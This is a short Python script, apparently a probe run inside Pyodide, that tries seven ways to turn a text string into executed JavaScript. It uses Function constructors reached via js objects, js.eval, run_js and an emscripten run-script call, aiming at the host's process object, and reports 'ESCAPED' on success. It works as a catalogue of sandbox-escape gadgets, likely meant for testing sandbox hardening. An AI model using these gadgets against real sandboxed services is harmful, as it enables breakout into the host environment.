"""Turn text into JavaScript: from there it would be one line to `process`."""

import js
import pyodide_js

CODE = "return globalThis.process ?? globalThis"


def attempt(secret, target, port):
    made = []
    attempts = [
        lambda: js.Object.constructor(CODE)(),
        lambda: js.setTimeout.constructor(CODE)(),
        lambda: js.Promise.resolve.constructor.constructor(CODE)(),
        lambda: pyodide_js.runPython.constructor(CODE)(),
        lambda: js.eval(CODE),
        lambda: __import__("pyodide.code", fromlist=["run_js"]).run_js("globalThis"),
        lambda: pyodide_js._module._emscripten_run_script_string(pyodide_js._module.stringToNewUTF8("'made'")),
    ]
    for each in attempts:
        try:
            made.append("MADE " + repr(each()))
        except Exception as error:
            made.append(type(error).__name__)
    if any(outcome.startswith("MADE") for outcome in made):
        return ["ESCAPED: text became JavaScript", *made]
    return made
